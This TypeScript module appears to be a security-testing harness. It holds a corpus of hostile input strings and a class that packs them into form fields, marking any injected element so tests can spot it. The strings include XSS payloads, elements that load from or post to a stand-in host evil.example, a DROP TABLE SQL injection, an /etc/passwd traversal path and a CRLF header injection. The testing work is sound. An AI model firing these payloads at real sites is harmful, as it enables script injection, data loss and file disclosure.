/** Marks every element that the strings would make; the product makes none with it. */
export const MARK = "data-h";
const RUN = "alert(1)";

/** Ends whatever surrounds a text: an attribute, an element, a comment, a script, a template. */
const ENDS = ["", `">`, `'>`, "</title>", "</textarea>", "</script>", "--></style>", "]]>", `</p></div></a>`, "`});"];

const ELEMENTS = [
  `<script ${MARK}>${RUN}</script>`,
  `<img ${MARK} src=x onerror=${RUN}>`,
  `<svg ${MARK} onload=${RUN}>`,
  `<svg ${MARK}><animate onbegin=${RUN} attributeName=x>`,
  `<iframe ${MARK} srcdoc="<script>parent.${RUN}</script>">`,
  `<a ${MARK} href="javascript:${RUN}">x</a>`,
  `<details ${MARK} open ontoggle=${RUN}>`,
  `<video ${MARK}><source onerror=${RUN}></video>`,
  `<input ${MARK} autofocus onfocus=${RUN}>`,
  `<body ${MARK} onpageshow=${RUN}>`,
  `<base ${MARK} href=//evil.example/>`,
  `<meta ${MARK} http-equiv=refresh content="0;url=//evil.example">`,
  `<link ${MARK} rel=stylesheet href=//evil.example/x.css>`,
  `<form ${MARK} action=//evil.example><button>x</button>`,
  `<style ${MARK}>@import "//evil.example"</style>`,
  `<object ${MARK} data="javascript:${RUN}">`,
  `<embed ${MARK} src="data:text/html,<script>${RUN}</script>">`,
  `<math ${MARK}><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<template ${MARK}><script>${RUN}</script></template>`,
  `<b ${MARK} style="position:fixed;inset:0">x</b>`,
  `<IMG ${MARK} SRC=x OnErRoR=${RUN}>`,
  `<img/${MARK}/src=x/onerror=${RUN}>`,
  `<!--><img ${MARK} src=x onerror=${RUN}>`,
  `<x ${MARK} onclick=${RUN} tabindex=1 autofocus onfocus=${RUN}>`,
  `<script ${MARK} type=module>import("//evil.example/x.js")</script>`,
];

/** What other languages than HTML would read: scripts, addresses, markdown, templates, headers, SQL, spreadsheets. */
const OTHERS = [
  `';${RUN}//`,
  `";${RUN}//`,
  "`;alert(1)//",
  `\\";${RUN}//`,
  `\${${RUN}}`,
  `{{${RUN}}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,

  `data:text/html,<script>${RUN}</script>`,
  `[x](javascript:${RUN})`,
  `![x](x" onerror="${RUN})`,
  `<javascript:${RUN}>`,

  `[x]: javascript:${RUN}`,
  `[x](data:text/html,x)`,
  "//evil.example/x",
  "https://evil.example/x.png",
  "../../../etc/passwd",
  "'; DROP TABLE user_profile;--",
  `" or 1=1 --`,
  "%00",
  "%0d%0aset-cookie: a=b",
  "a@b.c,d@e.f",
  "=1+1",
  "@SUM(1)",

  "\u2028alert(1)//",
  "&lt;script&gt;",
  "&#60;script&#62;",
  "\\u003cscript\\u003e",
  "\\x3cscript>",
  "%3Cscript%3E",
  "＜script＞",

  "\u202ergnp.exe",
  "a\u200bb\u200dc",
  "\u2066xy\u2069",
  `a${"\u0301".repeat(8)}`,
  "👩‍👩‍👧‍👦 a",
  "🏴‍☠️ a",
  "שלום",
  "مرحبا",
  "ｱｲｳ",
  "İstanbul",

  "constructor",
  "__proto__",
  "toString",
  "null",
  "undefined",
  "NaN",
  "-1",
  "1e999",
  "true",
  "[]",
  '{"a":1}',
  "🇯🇵🇯🇵",
  "W".repeat(40),
];

export const HOSTILE_STRINGS: readonly string[] = [
  ...ELEMENTS.flatMap((element) => ENDS.map((end) => end + element)),
  ...OTHERS,
];

/** A text of at most `most` characters for a field, of as many strings as fit, going on where this field's last one ended. */
export class HostileTexts {
  readonly #next: Map<string, number>;

  /** `next`: where an earlier run has ended. */
  constructor(next: Readonly<Record<string, number>> = {}) {
    this.#next = new Map(Object.entries(next));
  }

  toJSON(): Record<string, number> {
    return Object.fromEntries(this.#next);
  }

  for(field: string, most: number): string {
    const fitting = HOSTILE_STRINGS.filter((text) => text.length <= most);
    let at = this.#next.get(field) ?? 0;
    let packed = "";
    for (let count = 0; count < fitting.length; count += 1) {
      const joined = `${packed}${packed === "" ? "" : " "}${fitting[at % fitting.length]}`;
      if (joined.length > most) break;
      packed = joined;
      at += 1;
    }
    this.#next.set(field, at);
    return packed;
  }

  /** How many of the strings that fit each field it has been sent, of how many. */
  sent(mostOf: ReadonlyMap<string, number>): { field: string; sent: number; of: number }[] {
    return [...this.#next].map(([field, next]) => {
      const of = HOSTILE_STRINGS.filter((text) => text.length <= (mostOf.get(field) ?? 0)).length;
      return { field, sent: Math.min(next, of), of };
    });
  }
}
